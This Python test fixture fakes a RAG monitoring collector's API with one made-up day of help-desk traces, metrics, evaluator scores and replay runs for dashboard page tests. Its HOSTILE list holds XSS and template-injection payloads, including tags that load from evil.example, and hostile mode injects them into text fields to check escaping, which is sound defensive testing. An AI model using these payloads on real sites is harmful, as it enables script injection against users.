"""A stand-in for the collector's JSON function: one made-up day of a help desk, the same on every run.

Only page tests use it; the whole way through the real collector is tests/test_pipeline.py.
"""

import hashlib
import math
import random
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

from ragpulse_dashboards import ApiError

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
EVALUATORS = ("groundedness", "context_utilization", "citation_check", "refusal")
UNITS = {
    "requests": "count",
    "errors": "count",
    "input_tokens": "tokens",
    "output_tokens": "tokens",
    "cost_usd": "usd",
    "latency_p50": "ms",
    "latency_p95": "ms",
    "latency_p99": "ms",
}
TOPICS = (
    (
        "How do I reset a forgotten password?",
        "Open the sign-in page and choose Forgot password. A link arrives in five minutes. It works for an hour.",
        "account/password.md",
    ),
    (
        "Which plans include single sign-on?",
        "Single sign-on is part of the Business plan. Team plans may add it. Trials include it for 90 days.",
        "billing/plans.md",
    ),
    (
        "How long are backups kept?",
        "Backups are kept for 35 days. Older backups are moved to cold storage. Restores from cold storage are free.",
        "operations/backups.md",
    ),
    (
        "Can I export my data as Parquet?",
        "Yes. Use Export in the project menu and choose Parquet. Exports larger than 10 GB are split into parts.",
        "data/export.md",
    ),
    (
        "What happens when an invoice is overdue?",
        "We send a reminder after 7 days. After 30 days the project becomes read-only. No data is deleted.",
        "billing/invoices.md",
    ),
)
HOSTILE = (
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=1">',
    "'><svg onload=window.__pwned=1>",
    "javascript:window.__pwned=1//",
    "</textarea></title></style></script><script>window.__pwned=1</script>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<a href=javascript:window.__pwned=1 hx-get=https://evil.example/x hx-trigger=load>x</a>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>__proto__",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "\u202egnp.exe\u0000\ud83d\ude00 <style>*{display:none}</style>",
)


def iso(moment: datetime) -> str:
    """The contract's way to write a time."""
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


def hexid(text: str, length: int) -> str:
    """A stable id."""
    return hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()[:length]


def moment_of(value: Any, default: datetime) -> datetime:
    """A `from` or `to` parameter, relative or ISO."""
    if not value:
        return default
    text = str(value)
    if text.startswith("-") and text[-1] in "smhd" and text[1:-1].isdigit():
        names = {"s": "seconds", "m": "minutes", "h": "hours", "d": "days"}
        return NOW - timedelta(**{names[text[-1]]: int(text[1:-1])})
    try:
        return datetime.fromisoformat(text)
    except ValueError:
        raise ApiError(400, f"`from` is neither a time nor like -24h: {text}") from None


class FakeApi:
    """`await FakeApi()("GET traces", {})`; `calls` keeps what pages asked for."""

    def __init__(self, *, empty: bool = False, hostile: bool = False, n_traces: int = 60, n_spans: int = 7) -> None:
        self.empty = empty
        self.hostile = hostile
        self.n_spans = n_spans
        self.fresh = 0
        """How many traces the next look at the tail finds."""
        self.calls: list[tuple[str, dict[str, Any]]] = []
        self.rows = [] if empty else [self._row(number) for number in range(n_traces)]

    async def __call__(self, operation: str, params: Mapping[str, Any]) -> Any:
        """Answer one operation; unknown ones are 404 as in the collector."""
        self.calls.append((operation, dict(params)))
        method, _, path = operation.partition(" ")
        parts = path.split("/")
        name = f"{method.lower()}_{parts[0]}" + ("" if len(parts) == 1 else "_one")
        answer: Callable[..., Any] | None = getattr(self, name, None)
        if answer is None:
            raise ApiError(404, f"No operation {operation}.")
        found = answer(params) if len(parts) == 1 else answer(parts[1], params, *parts[2:])
        return self._poison(found) if self.hostile else found

    def _text(self, text: str) -> str:
        return text

    def _poison(self, value: Any, path: str = "") -> Any:
        """Hostile text into every free text field and every attribute key; ids, times and enumerations stay valid."""
        if isinstance(value, dict):
            return {self._key(key, path): self._poison(item, f"{path}.{key}") for key, item in value.items()}
        if isinstance(value, list | tuple):
            return [self._poison(item, path) for item in value]
        name = path.rpartition(".")[2]
        kept = {
            "trace_id",
            "span_id",
            "parent_span_id",
            "start_time",
            "t",
            "from",
            "to",
            "unit",
            "status",
            "created_at",
            "newest_span",
            "run_id",
            "next",
            "newest",
        }
        if not isinstance(value, str) or name in kept:
            return value
        number = int(hexid(path + value, 8), 16) % len(HOSTILE)
        return HOSTILE[number] + " " + value

    def _key(self, key: str, path: str) -> str:
        return HOSTILE[len(key) % len(HOSTILE)] if path.endswith((".attributes", ".metadata")) else key

    # -- traces ---------------------------------------------------------------

    def _row(self, number: int) -> dict[str, Any]:
        draw = random.Random(number)
        query, response, _ = TOPICS[number % len(TOPICS)]
        late = number < 24
        quality = min(1.0, max(0.0, draw.gauss(0.68 if late else 0.88, 0.13)))
        error = number % 17 == 5
        scores = {
            name: {
                "normalized": round(min(1.0, max(0.0, quality + draw.gauss(0, 0.06))), 3),
                "status": "ok",
                "passing": quality > 0.6,
            }
            for name in EVALUATORS[:3]
        }
        if number % 11 == 3:
            scores["citation_check"] = {"normalized": None, "status": "skipped", "passing": None}
        return {
            "trace_id": hexid(f"trace{number}", 32),
            "start_time": iso(NOW - timedelta(minutes=4 + 23 * number)),
            "latency_ms": round(math.exp(draw.gauss(6.6, 0.5)), 1),
            "ttft_ms": 240.0 if number % 3 else None,
            "service": "helpdesk",
            "environment": "production",
            "name": "answer",
            "query": query,
            "response": None if error else response,
            "session_id": f"session-{number % 9}",
            "user_id": f"user-{number % 5}",
            "prompt_name": "qa",
            "prompt_version": "v7" if late else "v6",
            "variant": "b" if number % 2 else "a",
            "model": "gpt-5-mini" if number % 4 else "claude-haiku-5",
            "input_tokens": 900 + number * 7,
            "output_tokens": 120 + number,
            "cached_tokens": 0,
            "cost_usd": None if number % 13 == 7 else 0.0004 + number * 1e-5,
            "cost_unknown_reason": "no price for this model" if number % 13 == 7 else None,
            "error": error,
            "top_score": 0.81,
            "n_spans": self.n_spans,
            "n_units": 1,
            "scores": {} if error else scores,
        }

    def get_traces(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """Filters by equality and text, sorts, pages by offset in the cursor."""
        start, end = moment_of(params.get("from"), NOW - timedelta(days=30)), moment_of(params.get("to"), NOW)
        rows = [row for row in self.rows if start <= datetime.fromisoformat(row["start_time"]) <= end]
        for name in ("service", "model", "prompt_version", "variant", "environment"):
            if params.get(name):
                rows = [row for row in rows if row[name] == params[name]]
        if params.get("q"):
            rows = [row for row in rows if str(params["q"]).lower() in row["query"].lower()]
        if params.get("error"):
            rows = [row for row in rows if row["error"] == (params["error"] == "true")]
        if params.get("sort") in ("worst", "best"):
            scored = [row for row in rows if row["scores"]]
            rows = sorted(
                scored, key=lambda row: row["scores"]["groundedness"]["normalized"], reverse=params["sort"] == "best"
            )
        if params.get("sort") == "slow":
            rows = sorted(rows, key=lambda row: -row["latency_ms"])
        if params.get("after"):
            rows, self.fresh = rows[: self.fresh], 0
        offset, limit = int(params.get("cursor") or 0), int(params.get("limit") or 50)
        page = rows[offset : offset + limit]
        answer: dict[str, Any] = {
            "traces": page,
            "next": str(offset + limit) if len(rows) > offset + limit else None,
            "newest": "0",
        }
        if params.get("facets"):
            answer["facets"] = {
                name: self._facet(rows, name)
                for name in ("service", "model", "prompt_version", "variant", "environment")
            }
        return answer

    def _facet(self, rows: list[dict[str, Any]], name: str) -> list[dict[str, Any]]:
        values = sorted({row[name] for row in rows})
        return [{"value": value, "n": sum(row[name] == value for row in rows)} for value in values]

    def get_traces_one(self, trace_id: str, params: Mapping[str, Any], *rest: str) -> dict[str, Any]:
        """One trace with everything on its page, or its pytest case."""
        index = next((number for number, row in enumerate(self.rows) if row["trace_id"] == trace_id), None)
        if index is None:
            raise ApiError(404, "No trace has this id; it may have been pruned after 30 days.")
        row = self.rows[index]
        if rest == ("pytest",):
            return {"filename": f"test_{trace_id[:8]}.py", "text": "def test_trace() -> None:\n    assert True\n"}
        near = [{"trace_id": one["trace_id"], "start_time": one["start_time"]} for one in self.rows]
        return {
            "trace": row,
            "spans": self._spans(row),
            "contexts": self._contexts(row, index),
            "scores": self._scores(row, index),
            "decisions": [
                {
                    "trace_id": trace_id,
                    "span_id": hexid("root", 16),
                    "evaluator": name,
                    "rule": "offline",
                    "policy": "9f2c",
                    "pi": 1.0,
                    "sampled": True,
                    "reason": "sampled",
                    "decided_at": row["start_time"],
                }
                for name in EVALUATORS
            ],
            "labels": [
                {
                    "evaluator": "groundedness",
                    "score": 1.0,
                    "passing": True,
                    "comment": "checked by hand",
                    "annotator": "mara",
                    "created_at": row["start_time"],
                }
            ]
            if index % 3 == 0
            else [],
            "previous": near[index + 1] if index + 1 < len(near) else None,
            "next": near[index - 1] if index else None,
        }

    def _spans(self, row: Mapping[str, Any]) -> list[dict[str, Any]]:
        start, total = datetime.fromisoformat(row["start_time"]), row["latency_ms"]
        shape = [
            ("answer", "rag", None, 0.0, 1.0),
            ("search", "retriever", 0, 0.02, 0.3),
            ("embed query", "embedding", 1, 0.03, 0.1),
            ("rerank", "reranker", 0, 0.33, 0.1),
            ("generate", "llm", 0, 0.44, 0.5),
            ("lookup price", "tool", 0, 0.94, 0.05),
            ("guard", "guardrail", 0, 0.99, 0.01),
        ]
        shape += [
            (f"step {number}", "span", number % 5, 0.1 + 0.8 * number / self.n_spans, 0.02)
            for number in range(self.n_spans - 7)
        ]
        return [
            {
                "trace_id": row["trace_id"],
                "span_id": hexid(f"{row['trace_id']}{number}", 16),
                "parent_span_id": None if parent is None else hexid(f"{row['trace_id']}{parent}", 16),
                "start_time": iso(start + timedelta(milliseconds=total * offset)),
                "latency_ms": round(total * share, 2),
                "name": name,
                "kind": kind,
                "service": row["service"],
                "status": "error" if row["error"] and kind == "llm" else "ok",
                "error_type": "RateLimitError" if row["error"] and kind == "llm" else None,
                "query": row["query"] if number == 0 else None,
                "response": row["response"] if number == 0 else None,
                "model": row["model"] if kind == "llm" else None,
                "provider": "openai" if kind == "llm" else None,
                "input_tokens": row["input_tokens"] if kind == "llm" else None,
                "output_tokens": row["output_tokens"] if kind == "llm" else None,
                "cost_usd": row["cost_usd"] if kind == "llm" else None,
                "attributes": {"ragpulse.span.kind": kind, "gen_ai.request.model": row["model"], "tags": ["a", "b"]},
                "mapped_from": "ragpulse",
                "events": [{"name": "cache miss", "time": row["start_time"], "attributes": {"key": "q"}}]
                if number == 1
                else [],
            }
            for number, (name, kind, parent, offset, share) in enumerate(shape)
        ]

    def _contexts(self, row: Mapping[str, Any], index: int) -> list[dict[str, Any]]:
        order = [index % len(TOPICS), (index + 1) % len(TOPICS), (index + 2) % len(TOPICS)]
        return [
            {
                "trace_id": row["trace_id"],
                "span_id": hexid(f"{row['trace_id']}1", 16),
                "rank": rank,
                "id": TOPICS[topic][2],
                "score": round(0.86 - 0.17 * rank, 3),
                "text": TOPICS[topic][1].rpartition(". ")[0] + ". See the handbook for details.",
                "metadata": {"lang": "en"},
                "hash": hexid(TOPICS[topic][2], 64),
            }
            for rank, topic in enumerate(order, 1)
        ]

    def _scores(self, row: Mapping[str, Any], index: int) -> list[dict[str, Any]]:
        if row["error"]:
            return []
        base = {
            "trace_id": row["trace_id"],
            "span_id": hexid("root", 16),
            "request_time": row["start_time"],
            "judge": None,
            "source": "online",
            "pi": 1.0,
            "label_pi": None,
            "reason": "sampled",
            "cost_usd": None,
            "created_at": row["start_time"],
            "run_id": None,
            "calls": [],
            "parts": {},
            "ci95": None,
            "label": None,
        }
        found = []
        for name, one in row["scores"].items():
            found.append(
                {
                    **base,
                    "evaluator": name,
                    "version": hexid(name, 12),
                    "status": one["status"],
                    "score": one["normalized"],
                    "normalized": one["normalized"],
                    "passing": one["passing"],
                    "explanation": "needs citations in the answer"
                    if one["status"] == "skipped"
                    else "2 of 3 sentences are covered by the contexts.",
                }
            )
        found[0]["parts"] = {"sentences": self._sentences(row)}
        call = {
            "prompt": "Is every statement of the answer supported by the contexts?",
            "completion": '{"verdict": "partly", "missing": "the last sentence"}',
            "model": "openai/gpt-5-mini",
            "elapsed_s": 0.84,
            "input_tokens": 612,
            "output_tokens": 41,
            "cost_usd": 0.00021,
            "cached": False,
            "logprobs": None,
        }
        found.append(
            {
                **base,
                "evaluator": "faithfulness",
                "version": hexid("faith", 12),
                "judge": "openai/gpt-5-mini",
                "status": "ok",
                "score": 0.0,
                "normalized": 0.0,
                "passing": False,
                "label": "NO",
                "pi": 0.05,
                "cost_usd": 0.00021,
                "ci95": [0.0, 0.4],
                "explanation": "The last sentence is not found in any of the contexts.",
                "calls": [call],
            }
        )
        return found

    def _sentences(self, row: Mapping[str, Any]) -> list[dict[str, Any]]:
        found, position = [], 0
        texts = [part + "." for part in row["response"].rstrip(".").split(". ")]
        for number, text in enumerate(texts):
            start = row["response"].index(text, position)
            position = start + len(text)
            supported = number < len(texts) - 1
            found.append(
                {
                    "text": text,
                    "start": start,
                    "end": position,
                    "score": 0.93 if supported else 0.21,
                    "supported": supported,
                    "context": 0 if supported else None,
                    "evidence_start": start if supported else None,
                    "evidence_end": position if supported else None,
                    "reasons": [] if supported else ["no context mentions this"],
                }
            )
        return found

    # -- figures --------------------------------------------------------------

    def get_metrics(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """A day with a drop after a prompt change, a gap at night and thin buckets."""
        start, end = moment_of(params.get("from"), NOW - timedelta(days=1)), moment_of(params.get("to"), NOW)
        step = max(60, int((end - start).total_seconds() / 96 // 60 * 60))
        name = str(params["name"])
        quality = name.split(":")[0] in ("quality", "pass_rate", "score")
        groups: list[dict[str, Any]] = [
            {field: value} for field in params.get("group_by") or [] for value in ("v6", "v7", None)
        ] or [{}]
        versions: list[str | None] = (
            ["a1b2c3d4e5f6", "0f9e8d7c6b5a"]
            if name == "quality:groundedness" and not params.get("group_by")
            else [None]
        )
        series = []
        for number, group in enumerate(groups):
            for at, version in enumerate(versions):
                points = [] if self.empty else self._points(name, start, end, step, number)
                half = len(points) * 2 // 3
                part = points if len(versions) == 1 else points[:half] if at == 0 else points[half:]
                series.append({"group": group, "version": version, "judge": None, "points": part})
        markers = (
            [{"t": iso(start + (end - start) * 2 / 3), "kind": "prompt_version", "text": "prompt qa v7"}]
            if quality
            else []
        )
        return {
            "name": name,
            "unit": "ratio" if quality else UNITS.get(name, "count"),
            "step": step,
            "from": iso(start),
            "to": iso(end),
            "series": series,
            "markers": markers,
        }

    def _points(self, name: str, start: datetime, end: datetime, step: int, shift: int) -> list[dict[str, Any]]:
        draw = random.Random(len(name) * 31 + shift)
        quality = name.split(":")[0] in ("quality", "pass_rate", "score")
        total = int((end - start).total_seconds() // step)
        points = []
        for number in range(total):
            if 0.25 < number / total < 0.33:
                continue
            n = max(1, int(18 + 14 * math.sin(number / 14) + draw.uniform(-5, 5)))
            if quality:
                value = min(
                    1.0, max(0.0, (0.9 if number < total * 2 / 3 else 0.74) - 0.05 * shift + draw.gauss(0, 0.025))
                )
                half = 0.35 / math.sqrt(n)
                low, high = max(0.0, value - half), min(1.0, value + half)
                counts = {"skipped": n // 9, "invalid": 0, "error": 1 if number % 31 == 0 else 0}
                points.append(
                    {
                        "t": iso(start + timedelta(seconds=step * number)),
                        "value": value,
                        "lo": low,
                        "hi": high,
                        "n": n,
                        "n_eff": n * 0.9,
                        "counts": counts,
                        "dropped": 0,
                        "bounds": None,
                    }
                )
            else:
                scale = {
                    "latency_p50": 620,
                    "latency_p95": 1450,
                    "latency_p99": 2600,
                    "errors": 0.7,
                    "cost_usd": 0.011,
                    "input_tokens": 21000,
                    "output_tokens": 2900,
                }.get(name, n)
                value = scale * (1 + 0.2 * math.sin(number / 9) + draw.uniform(-0.1, 0.1)) * (1 - 0.2 * shift)
                points.append(
                    {
                        "t": iso(start + timedelta(seconds=step * number)),
                        "value": value,
                        "lo": None,
                        "hi": None,
                        "n": n,
                        "n_eff": None,
                        "counts": {},
                        "dropped": 0,
                        "bounds": None,
                    }
                )
        return points

    def get_overview(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """The headline strip."""
        moment_of(params.get("from"), NOW)
        if self.empty:
            return {
                "newest_span": None,
                "lag_s": None,
                "n_traces": 0,
                "error_rate": None,
                "quality": [],
                "cost_usd": None,
                "cost_unknown_share": None,
                "tokens": None,
                "dropped": 0,
                "queued": 0,
                "coverage": [],
                "cost_per_good_answer": None,
            }
        quality = [
            {
                "evaluator": name,
                "version": hexid(name, 12),
                "judge": None,
                "value": 0.861 - 0.06 * number,
                "lo": 0.842 - 0.06 * number,
                "hi": 0.879 - 0.06 * number,
                "n": 1204 - number,
                "n_eff": 1180.4,
                "passing_rate": 0.912 - 0.05 * number,
                "previous": {"value": 0.903, "lo": 0.89, "hi": 0.915} if number < 3 else None,
                "verdict": ("worse", "undecided", "better", None)[number],
            }
            for number, name in enumerate(EVALUATORS)
        ]
        coverage = [
            {
                "evaluator": name,
                "eligible": 1290,
                "selected": 1290,
                "scored": 1204 - number,
                "skipped": 80,
                "invalid": 2,
                "error": 4,
                "dropped": 0,
                "uncovered_share": 0.0,
            }
            for number, name in enumerate(EVALUATORS)
        ]
        return {
            "newest_span": iso(NOW),
            "lag_s": 2.1,
            "n_traces": 12904,
            "error_rate": 0.0131,
            "quality": quality,
            "cost_usd": 4.2817,
            "cost_unknown_share": 0.021,
            "tokens": 18_400_000,
            "dropped": 0,
            "queued": 3,
            "coverage": coverage,
            "cost_per_good_answer": {"value": 0.000412, "lo": 0.00039, "hi": 0.00044},
        }

    def get_exemplars(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """Three traces of each kind."""
        return {"worst": self.rows[9:12], "median": self.rows[1:3], "best": self.rows[24:27]}

    def get_explain(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """A slow region after the prompt change."""
        start, end = moment_of(params.get("from"), NOW - timedelta(days=1)), moment_of(params.get("to"), NOW)
        draw = random.Random(7)
        x = [iso(start + (end - start) * number / 48) for number in range(48)]
        cells = [
            [
                0 if self.empty else max(0, int(draw.gauss(9 - abs(row - (5 if column < 32 else 9)) * 3, 3)))
                for row in range(16)
            ]
            for column in range(48)
        ]
        attributes = [
            {
                "attribute": name,
                "value": value,
                "selected": {"n": 80, "share": share},
                "baseline": {"n": 300, "share": base},
                "lift": share / base,
                "p_adjusted": p,
            }
            for name, value, share, base, p in (
                ("prompt_version", "v7", 0.96, 0.34, 1e-12),
                ("model", "claude-haiku-5", 0.41, 0.22, 0.003),
                ("document", "operations/backups.md", 0.5, 0.31, 0.04),
            )
        ]
        selected = bool(params.get("sel_from") or params.get("sel_lo"))
        return {
            "n_selected": 83 if selected else 0,
            "n_baseline": 1207,
            "heatmap": {"x": x, "y": [150.0 * number for number in range(16)], "cells": cells},
            "attributes": attributes if selected else [],
        }

    def get_evaluators(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """A registry of eight, four of them in use."""
        names = (*EVALUATORS, "faithfulness", "relevancy", "correctness", "exact_match")
        stats = {"ok": 1204, "skipped": 80, "invalid": 2, "error": 1, "cost_usd": 0.31, "mean_latency_ms": 4.2}
        return {
            "evaluators": [
                {
                    "name": name,
                    "version": hexid(name, 12),
                    "needs": ["response", "contexts"],
                    "scale": {"lo": 0, "hi": 1, "threshold": 0.5, "reverse": False},
                    "cost_class": "judge" if number > 3 else "offline",
                    "source": "built-in",
                    "description": "Is every statement of the answer covered by what was retrieved?",
                    "online": [{"rule": "offline", "rate": 1.0}] if number < 4 else [],
                    "stats_24h": stats if number < 4 else None,
                    "calibration": {"kappa": 0.71, "lo": 0.58, "hi": 0.83, "n": 104} if number == 0 else None,
                }
                for number, name in enumerate(names)
            ]
        }

    def get_rules(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """One rule of each source."""
        base: dict[str, Any] = {"where": None, "strata": [], "policy": "9f2c", "enabled": True, "created_at": iso(NOW)}
        return {
            "rules": [
                {**base, "name": "offline", "evaluators": list(EVALUATORS), "rate": 1.0, "source": "built-in"},
                {
                    **base,
                    "name": "judged",
                    "evaluators": ["faithfulness"],
                    "rate": 0.05,
                    "source": "api",
                    "where": "service = 'helpdesk'",
                    "strata": [{"where": "error or feedback < 0", "rate": 1.0}],
                },
                {
                    **base,
                    "name": "nightly",
                    "evaluators": ["relevancy"],
                    "rate": 0.02,
                    "source": "file",
                    "enabled": False,
                },
            ]
        }

    def get_rules_one(self, name: str, params: Mapping[str, Any]) -> dict[str, Any]:
        """The prediction for a rule."""
        if "drop" in str(params.get("where")):
            raise ApiError(400, "`where` must be one SQL boolean: unexpected 'drop'.")
        return {
            "traces_per_day": 1290,
            "selected_per_day": 1290 * params["rate"],
            "cost_usd_per_day": 0.27 * params["rate"],
            "half_width_per_day": {name: 0.031 for name in params["evaluators"]},
            "uncovered_share": 0.0 if params["rate"] else 1.0,
        }

    def _run(self, number: int, status: str) -> dict[str, Any]:
        return {
            "run_id": hexid(f"run{number}", 16),
            "evaluator": "faithfulness",
            "version": hexid("faith", 12),
            "judge": "openai/gpt-5-mini",
            "where": "prompt_version = 'v7'",
            "since": "7d",
            "status": status,
            "total": 820,
            "done": 820 if status == "done" else 310,
            "ok": 301,
            "skipped": 4,
            "invalid": 3,
            "error": 2,
            "cost_usd": 0.0713,
            "max_usd": 2.0 if number != 1 else None,
            "rate_per_s": 6.4,
            "eta_s": 80 if status == "running" else None,
            "created_at": iso(NOW - timedelta(hours=number)),
            "finished_at": None if status == "running" else iso(NOW),
            "u_max": 0.378,
        }

    def get_replays(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """One run of each outcome."""
        return {
            "replays": []
            if self.empty
            else [self._run(number, status) for number, status in enumerate(("running", "done", "capped", "cancelled"))]
        }

    def get_replays_one(self, run_id: str, params: Mapping[str, Any]) -> dict[str, Any]:
        """A run by its id."""
        for run in self.get_replays({})["replays"]:
            if run["run_id"] == run_id:
                return dict(run)
        raise ApiError(404, "There is no such run.")

    def get_compare(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """v7 is worse than v6; variants do not differ enough."""
        small = str(params["a"]).startswith("variant")
        flips = [
            {
                "trace_id": row["trace_id"],
                "start_time": row["start_time"],
                "query": row["query"],
                "a": 0.93,
                "b": 0.21,
                "explanation_a": "all sentences covered",
                "explanation_b": "the last sentence is nowhere in the contexts",
            }
            for row in self.rows[:5]
        ]
        return {
            "a": {"name": params["a"], "value": 0.891, "lo": 0.874, "hi": 0.906, "n": 612},
            "b": {"name": params["b"], "value": 0.742, "lo": 0.716, "hi": 0.767, "n": 598},
            "difference": {"value": -0.012, "lo": -0.05, "hi": 0.026}
            if small
            else {"value": -0.149, "lo": -0.18, "hi": -0.119},
            "paired": not small,
            "test": {"name": "mSPRT, clustered by session", "p": 0.31 if small else 2e-9},
            "verdict": "not enough data" if small else "worse",
            "need_more": 420 if small else None,
            "flips": [] if small else flips,
            "also": [
                {
                    "metric": "latency_p50",
                    "a": 612.0,
                    "b": 655.0,
                    "difference": {"value": 43.0, "lo": 12.0, "hi": 74.0},
                    "verdict": "worse",
                },
                {
                    "metric": "cost_usd",
                    "a": 0.00061,
                    "b": 0.00048,
                    "difference": {"value": -0.00013, "lo": -0.0002, "hi": -0.00006},
                    "verdict": "better",
                },
            ],
        }

    def get_documents(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """The five topics' documents."""
        documents = [
            {
                "id": path,
                "hash": hexid(path, 64),
                "text": text,
                "retrieved": 410 - 70 * number,
                "queries": 88 - 9 * number,
                "used_share": 0.71 - 0.15 * number,
                "quality": {
                    "value": 0.9 - 0.07 * number,
                    "lo": 0.86 - 0.08 * number,
                    "hi": 0.93 - 0.05 * number,
                    "n": 300 - 61 * number,
                },
                "quality_without": 0.84,
                "shrunk": 0.89 - 0.05 * number,
                "hub": number == 1,
                "last_seen": iso(NOW),
            }
            for number, (_, text, path) in enumerate(TOPICS)
        ]
        return {"documents": [] if self.empty else documents, "never_used": 0 if self.empty else 12}

    def get_blame(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """Retrieval fails more after the change."""
        cells = [
            {
                "t": iso(NOW - timedelta(hours=24 - number)),
                "group": {},
                "good": 40 - (number > 15) * 9,
                "retrieval": 3 + (number > 15) * 8,
                "generation": 4,
                "refusal_right": 2,
                "refusal_wrong": 1,
                "unknown": 1,
            }
            for number in range(24)
        ]
        return {"cells": [] if self.empty else cells}

    def get_labels_one(self, name: str, params: Mapping[str, Any]) -> dict[str, Any]:
        """Suggestions with their probability."""
        return {"traces": [{**row, "label_pi": 0.21} for row in self.rows[:6]]}

    def get_monitors(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """One firing, one fine."""
        history = [
            {
                "t": iso(NOW - timedelta(hours=4)),
                "state": "firing",
                "text": "groundedness fell 0.90 to 0.74 since Sat 04:00; prompt v7 started 03:52",
                "delivery": "webhook 200",
            }
        ]
        base = {
            "group_by": ["prompt_version"],
            "condition": "fell",
            "since": iso(NOW - timedelta(hours=4)),
            "lo": 0.716,
            "hi": 0.767,
            "false_alarm_rate": 0.01,
        }
        return {
            "monitors": []
            if self.empty
            else [
                {
                    **base,
                    "name": "latency",
                    "metric": "latency_p95",
                    "state": "ok",
                    "value": 1450,
                    "lo": None,
                    "hi": None,
                    "history": [],
                },
                {
                    **base,
                    "name": "quality",
                    "metric": "quality:groundedness",
                    "state": "firing",
                    "value": 0.742,
                    "history": history,
                },
            ]
        }

    def get_status(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """A healthy collector with one drop."""
        return {
            "version": "0.1.0",
            "started_at": iso(NOW),
            "uptime_s": 93784,
            "db": {"path": "ragpulse.duckdb", "size_bytes": 182_000_000, "wal_bytes": 1_200_000},
            "retention": {"days": 30, "gb": 10},
            "received": {"requests": 4102, "spans": 90422, "bytes": 180_000_000, "logs": 12},
            "rejected": {"spans": 0, "requests_by_code": {"415": 2}},
            "duplicates": 3,
            "late": 7,
            "truncated": 1,
            "queue": {"bodies": 1, "bytes": 20_000, "oldest_s": 0.1},
            "newest_span": None if self.empty else iso(NOW),
            "evaluations": {
                "due": 4,
                "done": 4816,
                "dropped": {"budget": 3},
                "by_status": {"ok": 4700, "skipped": 110, "invalid": 2, "error": 4},
            },
            "judge": {"model": "openai/gpt-5-mini", "spent_today_usd": 0.31, "budget_usd": 1.0},
            "slow_queries": [{"sql": "select * from traces where query ilike '%backup%'", "ms": 412}],
            "roles": ["ingest", "evaluate", "maintain"],
        }

    # -- changes --------------------------------------------------------------

    def post_labels(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """Accepted; `calls` shows what was asked."""
        return {"ok": True}

    post_scores = post_evaluate = post_rules = post_labels

    def put_rules_one(self, name: str, params: Mapping[str, Any]) -> dict[str, Any]:
        """Rules of the file are read-only."""
        if name == "nightly":
            raise ApiError(409, "`nightly` is defined in ragpulse.toml: change it there.")
        return {"ok": True}

    delete_rules_one = put_rules_one

    def post_replays(self, params: Mapping[str, Any]) -> dict[str, Any]:
        """The bill, or a started run."""
        if params.get("dry_run"):
            return {
                "count": 820,
                "already": 64,
                "input_tokens": 501_000,
                "output_tokens": 33_000,
                "cost_usd": 0.1913,
                "cost_unknown_reason": None,
            }
        return self._run(0, "running")

    def post_replays_one(self, run_id: str, params: Mapping[str, Any], action: str) -> dict[str, Any]:
        """Cancel or resume."""
        return {"ok": True}

    def post_monitors_one(self, name: str, params: Mapping[str, Any], action: str) -> dict[str, Any]:
        """A test delivery."""
        return {"ok": True}
